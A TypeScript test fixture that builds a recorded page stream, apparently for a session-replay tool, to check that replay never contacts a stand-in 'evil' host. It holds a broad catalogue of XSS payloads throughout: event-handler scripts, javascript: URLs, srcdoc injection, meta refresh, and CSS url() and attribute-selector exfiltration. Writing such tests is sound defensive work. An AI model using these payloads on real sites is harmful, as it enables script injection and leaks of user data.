/** A stream that tries everything that the copy of a page could be abused for; `evil` must never hear of it. */
export function hostilePage(evil: string): unknown[] {
  let id = 1;
  const next = () => {
    id += 1;
    return id;
  };
  const text = (textContent: string) => ({ type: 3, id: next(), textContent });
  const element = (tagName: string, attributes: object = {}, ...childNodes: object[]) => ({
    type: 2,
    id: next(),
    tagName,
    attributes,
    childNodes,
  });
  const run = "parent.pwned=1;top.pwned=1;window.pwned=1;new Image().src='EVIL/ran'".replace('EVIL', evil);
  const body = element(
    'body',
    { onload: run, background: `${evil}/background` },
    element('img', { src: `${evil}/image`, onerror: run }),
    element('img', { src: 'x:', onerror: run, srcset: `${evil}/srcset 1x` }),
    element(
      'svg',
      { onload: run, isSVG: true },
      element('image', { href: `${evil}/svg` }),
      element('use', { href: `${evil}/use#a` }),
    ),
    element('iframe', { src: `javascript:${run}` }),
    element('iframe', { srcdoc: `<script>${run}</script><img src=${evil}/srcdoc>` }),
    element('iframe', { src: `${evil}/frame`, rr_src: `${evil}/rr-frame` }),
    element('object', { data: `${evil}/object` }),
    element('embed', { src: `${evil}/embed` }),
    element('video', { src: `${evil}/video`, poster: `${evil}/poster`, autoplay: '' }),
    element('audio', { src: `${evil}/audio`, autoplay: '' }),
    element('input', { type: 'image', src: `${evil}/input`, autofocus: '', onfocus: run }),
    element('a', { id: 'link', href: `javascript:${run}`, target: '_top' }, text('link')),
    element('a', { id: 'top', href: `${evil}/top`, target: '_top', ping: `${evil}/ping` }, text('top')),
    element(
      'form',
      { action: `${evil}/form` },
      element('button', { id: 'send', formaction: `${evil}/formaction` }, text('send')),
    ),
    element('details', { open: '', ontoggle: run }, text('more')),
    element('div', { style: `background:url(${evil}/style);list-style:u\\72l(${evil}/escaped)` }, text('div')),
    element('div', { style: `background:image-set("${evil}/set" 1x)` }, text('set')),
    element('script', { src: `${evil}/script` }),
    element('script', {}, text(run)),
    element(
      'math',
      {},
      element('maction', { actiontype: `statusline#${evil}`, 'xlink:href': `javascript:${run}` }, text('m')),
    ),
    element('img', {
      src:
        'data:image/svg+xml,' +
        encodeURIComponent(
          `<svg xmlns="http://www.w3.org/2000/svg" onload="${run}"><image href="${evil}/inner"/></svg>`,
        ),
    }),
    element('p', {}, text('the end of the page')),
  );
  const head = element(
    'head',
    {},
    element('base', { href: `${evil}/base/` }),
    element('meta', { 'http-equiv': 'refresh', content: `0;url=${evil}/refresh` }),
    element('link', { rel: 'stylesheet', href: `${evil}/sheet` }),
    element('link', { rel: 'prefetch', href: `${evil}/prefetch` }),
    element('link', { rel: 'dns-prefetch', href: `${evil}/dns` }),
    element('style', {
      _cssText: `@import "${evil}/import";body{background:url(${evil}/css)}@font-face{font-family:z;src:url(${evil}/font)}p{font-family:z}`,
    }),
    element('style', {}, text(`@import url(${evil}/import-text);input[value^="a"]{background:url(${evil}/read)}`)),
  );
  const document = {
    type: 0,
    id: 1,
    childNodes: [{ type: 1, id: next(), name: 'html', publicId: '', systemId: '' }, element('html', {}, head, body)],
  };
  const later = (data: object) => ({ type: 3, data });
  return [
    { type: 4, data: { href: `${evil}/meta`, width: 800, height: 600 } },
    { type: 2, data: { node: document, initialOffset: { top: 0, left: 0 } } },
    later({
      source: 0,
      texts: [],
      removes: [],
      attributes: [{ id: body.id, attributes: { onclick: run, style: { background: `url(${evil}/late-style)` } } }],
      adds: [{ parentId: body.id, nextId: null, node: element('img', { src: `${evil}/late`, onerror: run }) }],
    }),
    later({
      source: 15,
      id: 1,
      styleIds: [1],
      styles: [{ styleId: 1, rules: [{ rule: `body{background:url(${evil}/adopted)}`, index: 0 }] }],
    }),
    later({ source: 9, id: body.id, commands: [{ property: 'drawImage', args: [`${evil}/canvas`] }] }),
    later({ source: 10, family: 'z', fontSource: `url(${evil}/font-event)`, buffer: false }),
    { type: 6, data: { plugin: 'x', payload: run } },
  ];
}
